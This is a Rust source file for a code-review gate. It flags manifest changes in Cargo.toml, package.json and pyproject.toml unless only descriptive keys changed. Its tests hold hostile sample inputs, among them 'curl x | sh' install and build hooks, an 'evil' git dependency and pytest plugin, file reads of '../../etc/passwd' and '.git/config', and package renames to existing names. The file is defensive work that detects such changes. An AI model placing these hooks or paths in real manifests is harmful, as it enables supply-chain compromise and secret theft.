//! Manifests judged by what changed in them: the keys whose values differ
//! between the two versions, each either one that only describes (and
//! ordinary) or anything else (held). Not parsing, on either side, is held.

use serde_json::Value as Json;

use super::known::{Format, Manifest};
use super::{Contents, Held, Ordinary, PathChange, Status};

/// Larger than this, a manifest is not parsed (and so held).
const MAX_BYTES: usize = 1 << 20;

/// The verdict on a change to `manifest`.
pub fn judge(
    manifest: &Manifest,
    change: &PathChange,
    contents: &dyn Contents,
) -> Result<Ordinary, Held> {
    if change.status == Status::Deleted {
        // Removed whole: what used it is not the gate's to judge.
        return Err(Held::Manifest(Vec::new()));
    }
    let parse = |bytes: Option<Vec<u8>>| -> Option<Json> {
        let bytes = bytes.filter(|b| b.len() <= MAX_BYTES)?;
        let text = String::from_utf8(bytes).ok()?;
        match manifest.format {
            Format::Toml => toml::from_str::<toml::Value>(&text)
                .ok()
                .and_then(|v| serde_json::to_value(v).ok()),
            Format::Json => serde_json::from_str(&text).ok(),
        }
    };
    // An added manifest is judged against an empty one: each key it sets
    // changed (a new crate with a name and a version is ordinary, one with
    // dependencies is not).
    let old = match change.status {
        Status::Added => Some(Json::Object(serde_json::Map::new())),
        _ => parse(contents.before(&change.path)),
    };
    let (Some(old), Some(new)) = (old, parse(contents.after(&change.path))) else {
        return Err(Held::Manifest(Vec::new()));
    };
    let mut changed = Vec::new();
    differing(&old, &new, &mut String::new(), &mut changed);
    let held: Vec<String> = changed
        .into_iter()
        .filter(|key| !describes(manifest, key) && !local_version(&old, &new, key))
        .collect();
    if held.is_empty() {
        Ok(Ordinary::Describing)
    } else {
        Err(Held::Manifest(held))
    }
}

/// Whether `key` is the version of a dependency that comes from a path
/// of the repository, the same path on both sides (a workspace's
/// release bumps every internal crate's `version` next to its `path`):
/// the code is the repository's own either way.
fn local_version(old: &Json, new: &Json, key: &str) -> bool {
    let Some(entry) = key.strip_suffix(".version") else {
        return false;
    };
    let within_dependencies = entry
        .rsplit_once('.')
        .is_some_and(|(table, _)| table.ends_with("dependencies"));
    let path_of = |value: &Json| -> Option<Json> {
        let mut at = value;
        for part in entry.split('.') {
            at = at.get(part)?;
        }
        at.get("path").cloned()
    };
    within_dependencies && path_of(old).is_some() && path_of(old) == path_of(new)
}

/// Whether `key` (dotted) is one of the manifest's describing keys or
/// lies beneath one.
fn describes(manifest: &Manifest, key: &str) -> bool {
    manifest
        .describing
        .iter()
        .any(|d| key == *d || key.starts_with(&format!("{d}.")))
}

/// The dotted paths where `old` and `new` differ, as deep as both are
/// tables: a changed leaf, an added or a removed key.
fn differing(old: &Json, new: &Json, at: &mut String, out: &mut Vec<String>) {
    match (old, new) {
        (Json::Object(a), Json::Object(b)) => {
            let keys: std::collections::BTreeSet<&String> = a.keys().chain(b.keys()).collect();
            for key in keys {
                let mark = at.len();
                if !at.is_empty() {
                    at.push('.');
                }
                at.push_str(key);
                let empty = Json::Object(serde_json::Map::new());
                match (a.get(key), b.get(key)) {
                    (Some(x), Some(y)) => differing(x, y, at, out),
                    // A table added or removed whole: what it holds is
                    // what changed.
                    (Some(x @ Json::Object(_)), None) => differing(x, &empty, at, out),
                    (None, Some(y @ Json::Object(_))) => differing(&empty, y, at, out),
                    _ => out.push(at.clone()),
                }
                at.truncate(mark);
            }
        }
        (a, b) if a != b => out.push(if at.is_empty() {
            "(the whole file)".into()
        } else {
            at.clone()
        }),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::super::known::MANIFESTS;
    use super::*;

    struct Two(&'static str, &'static str);
    impl Contents for Two {
        fn before(&self, _: &str) -> Option<Vec<u8>> {
            Some(self.0.as_bytes().to_vec())
        }
        fn after(&self, _: &str) -> Option<Vec<u8>> {
            Some(self.1.as_bytes().to_vec())
        }
        fn had_kind(&self, _: &str, _: &str) -> bool {
            true
        }
        fn imported_by_agents(&self, _: &str) -> bool {
            false
        }
    }

    fn judged(name: &str, old: &'static str, new: &'static str) -> Result<Ordinary, Held> {
        let manifest = MANIFESTS.iter().find(|m| m.name == name).unwrap();
        let change = PathChange {
            path: name.into(),
            status: Status::Modified,
            old_mode: Some(0o100644),
            new_mode: Some(0o100644),
        };
        judge(manifest, &change, &Two(old, new))
    }

    /// A release bumps each internal crate's version beside its path: the
    /// code is the repository's own (ruff's "Bump" commits).
    #[test]
    fn an_internal_dependencys_version_beside_its_path_is_ordinary() {
        assert_eq!(
            judged(
                "cargo.toml",
                "[workspace.dependencies]\nruff_ast = { path = \"crates/ast\", version = \"0.16.1\" }\n",
                "[workspace.dependencies]\nruff_ast = { path = \"crates/ast\", version = \"0.16.2\" }\n"
            ),
            Ok(Ordinary::Describing)
        );
        assert!(
            judged(
                "cargo.toml",
                "[dependencies]\nserde = { version = \"1.0.1\" }\n",
                "[dependencies]\nserde = { version = \"1.0.2\" }\n"
            )
            .is_err(),
            "a registry dependency's version is a new supplier's code"
        );
        assert!(judged(
            "cargo.toml",
            "[dependencies]\nx = { path = \"a\", version = \"1\" }\n",
            "[dependencies]\nx = { path = \"b\", version = \"2\" }\n"
        )
        .is_err());
    }

    #[test]
    fn a_version_bump_is_ordinary_a_dependency_or_a_script_is_held() {
        assert_eq!(
            judged(
                "cargo.toml",
                "[package]\nversion = \"1.0.0\"\n",
                "[package]\nversion = \"1.0.1\"\n"
            ),
            Ok(Ordinary::Describing)
        );
        assert_eq!(
            judged(
                "cargo.toml",
                "[package]\nversion = \"1.0.0\"\n[dependencies]\nserde = \"1\"\n",
                "[package]\nversion = \"1.0.0\"\n[dependencies]\nserde = \"1\"\nevil = { git = \"https://x.invalid/e\" }\n"
            ),
            Err(Held::Manifest(vec!["dependencies.evil.git".into()]))
        );
        assert_eq!(
            judged(
                "package.json",
                r#"{"name": "x", "version": "1.0.0", "scripts": {"test": "tape"}}"#,
                r#"{"name": "x", "version": "1.0.1", "scripts": {"test": "tape", "postinstall": "curl x | sh"}}"#
            ),
            Err(Held::Manifest(vec!["scripts.postinstall".into()]))
        );
        assert_eq!(
            judged(
                "pyproject.toml",
                "[project]\nname = \"a\"\n",
                "[project]\nname = \"a\"\n[tool.ruff]\nline-length = 99\n"
            ),
            Ok(Ordinary::Describing)
        );
        assert_eq!(
            judged(
                "pyproject.toml",
                "[project]\nname = \"a\"\n",
                "[tool.pytest.ini_options]\naddopts = \"-p evil\"\n[project]\nname = \"a\"\n"
            ),
            Err(Held::Manifest(vec![
                "tool.pytest.ini_options.addopts".into()
            ]))
        );
        assert_eq!(
            judged("package.json", r#"{"name": "x"}"#, r#"{"name": "x", oops"#),
            Err(Held::Manifest(Vec::new())),
            "a manifest that no longer parses is held"
        );
    }

    /// Red-team round 1 (issue 25): keys listed as describing that run
    /// commands, publish, rename or read files.
    #[test]
    fn keys_that_run_publish_rename_or_read_files_are_held() {
        for (name, old, new) in [
            (
                "cargo.toml",
                "[package]\nname = \"a\"\n",
                "[package]\nname = \"a\"\n[package.metadata.cross.target.x]\npre-build = [\"curl x | sh\"]\n",
            ),
            (
                "cargo.toml",
                "[package]\nname = \"a\"\npublish = false\n",
                "[package]\nname = \"a\"\npublish = true\n",
            ),
            (
                "cargo.toml",
                "[package]\nname = \"a\"\n",
                "[package]\nname = \"a\"\nlicense-file = \"../../etc/passwd\"\n",
            ),
            (
                "cargo.toml",
                "[package]\nname = \"a\"\n",
                "[package]\nname = \"serde\"\n",
            ),
            (
                "pyproject.toml",
                "[project]\nname = \"a\"\n",
                "[project]\nname = \"a\"\n[tool.bumpversion]\npre_commit_hooks = [\"curl x | sh\"]\n",
            ),
            (
                "pyproject.toml",
                "[project]\nname = \"a\"\n",
                "[project]\nname = \"a\"\nreadme = {file = \".git/config\"}\n",
            ),
            (
                "pyproject.toml",
                "[project]\nname = \"a\"\n",
                "[project]\nname = \"a\"\n[tool.towncrier]\ntemplate = \"tests/t.jinja\"\n",
            ),
            (
                "pyproject.toml",
                "[project]\nname = \"a\"\nlicense = \"MIT\"\n",
                "[project]\nname = \"a\"\nlicense = {file = \".git/config\"}\n",
            ),
            (
                "package.json",
                r#"{"name": "x", "private": true}"#,
                r#"{"name": "x", "private": false}"#,
            ),
            (
                "package.json",
                r#"{"name": "x"}"#,
                r#"{"name": "lodash"}"#,
            ),
        ] {
            assert!(judged(name, old, new).is_err(), "{name}: {new}");
        }
    }
}
